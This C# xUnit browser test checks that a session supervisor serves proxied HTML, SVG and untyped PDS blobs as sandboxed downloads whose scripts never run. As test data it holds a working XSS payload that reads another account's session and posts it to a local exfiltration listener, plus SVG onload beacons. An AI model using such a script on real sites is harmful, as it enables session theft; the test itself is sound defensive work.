using System.Net;
using System.Net.Http.Json;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using Supervisor.Actors.Tests.Support;
using Xunit.Abstractions;

namespace Supervisor.Actors.Tests.Browser;

/// <summary>
/// A PDS answer that a browser could run as a page of the supervisor's origin (HTML, SVG, HTML without a
/// Content-Type), opened through the XRPC pass-through in a real browser (headless Chromium) that holds the
/// operator's login and the admin bearer, is never shown and its scripts never run (tests/browser/proxied-documents.js).
/// </summary>
public sealed class ProxiedDocumentsSpec(ITestOutputHelper output) : FakePdsHostSpec
{
    private const string Blob = "com.atproto.sync.getBlob";

    [Fact]
    public async Task Html_and_svg_answers_of_the_pds_are_downloads_whose_scripts_never_run_in_the_supervisors_origin()
    {
        await using var host = new SupervisorProcess(Folder.Folder);
        await host.StartAsync();
        var alice = Pds.CreateAccount("alice.test", "pw-alice");
        var bob = Pds.CreateAccount("bob.test", "pw-bob");
        foreach (var account in new[] { alice, bob }) await LoginAsync(host, account);
        var exfilPort = LoopbackPort.Free();
        var exfil = $"http://127.0.0.1:{exfilPort}";
        // What a hostile blob of alice's would do as a page of the supervisor: read bob's session and send it away.
        var steal = $$"""
            document.title = 'pwned'; document.documentElement.setAttribute('data-pwned', 'script');
            navigator.sendBeacon('{{exfil}}/ran', 'x');
            fetch('/accounts/{{bob.Did}}/session', { credentials: 'include' }).then(r => r.text())
              .then(t => fetch('{{exfil}}/session', { method: 'POST', mode: 'no-cors', body: t }))
              .catch(e => navigator.sendBeacon('{{exfil}}/failed', String(e)));
            """;
        var html = $"<!doctype html><html><head><title>proxied</title></head><body><p>a blob</p><img src=\"{exfil}/img\"><script>{steal}</script></body></html>";
        var svg = $"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"document.documentElement.setAttribute('data-pwned', 'onload'); navigator.sendBeacon('{exfil}/onload', 'x')\">"
                  + $"<rect width=\"10\" height=\"10\"/><script><![CDATA[{steal}]]></script></svg>";
        var cases = new (string Name, string Body, string? ContentType)[]
        {
            ("html", html, "text/html"),
            ("svg", svg, "image/svg+xml"),
            ("untyped", html, null),
        };

        foreach (var (name, body, contentType) in cases)
        {
            Pds.AnswerWith(Blob, Encoding.UTF8.GetBytes(body), contentType);
            var calls = Pds.CallCount(Blob);
            var findings = await BrowserScript.RunAsync("proxied-documents.js", new
            {
                supervisor = host.Http.BaseAddress!.ToString().TrimEnd('/'),
                operatorPassword = host.OperatorPassword,
                adminToken = host.AdminToken,
                exfilPort,
                documents = new[] { new { name, path = $"/accounts/{alice.Did}/xrpc/{Blob}?did={alice.Did}&cid=bafkrei{name}" } },
            });
            output.WriteLine(findings.GetRawText());
            Assert.Equal("Session supervisor", findings.GetProperty("statusPage").GetProperty("heading").GetString());
            Assert.True(Pds.CallCount(Blob) > calls, $"{name}: the browser's request did not reach the PDS");

            var document = Assert.Single(findings.GetProperty("documents").EnumerateArray());
            // Nothing ran: the listener heard nothing, the title and the document are as they were.
            Assert.True(findings.GetProperty("received").GetArrayLength() == 0, $"{name}: the listener heard {findings.GetProperty("received")}");
            Assert.NotEqual("pwned", document.GetProperty("title").GetString());
            Assert.Equal(JsonValueKind.Null, document.GetProperty("marker").ValueKind);
            Assert.Equal(200, document.GetProperty("status").GetInt32());
            var headers = document.GetProperty("headers");
            Assert.Equal(contentType, headers.GetProperty("content-type").GetString());
            Assert.Equal("attachment", headers.GetProperty("content-disposition").GetString());
            Assert.Equal("nosniff", headers.GetProperty("x-content-type-options").GetString());
            Assert.Equal("no-store", headers.GetProperty("cache-control").GetString());
            var policy = headers.GetProperty("content-security-policy").GetString() ?? "";
            Assert.Contains("default-src 'none'", policy);
            Assert.Contains("sandbox", policy.Split(';', StringSplitOptions.TrimEntries));

            // Chromium does not show an attachment: the navigation ends as a (refused) download and the page stays where it was.
            Assert.Contains("ERR_ABORTED", document.GetProperty("navigation").GetString());
            Assert.Equal("/", document.GetProperty("url").GetString());
        }
    }
}
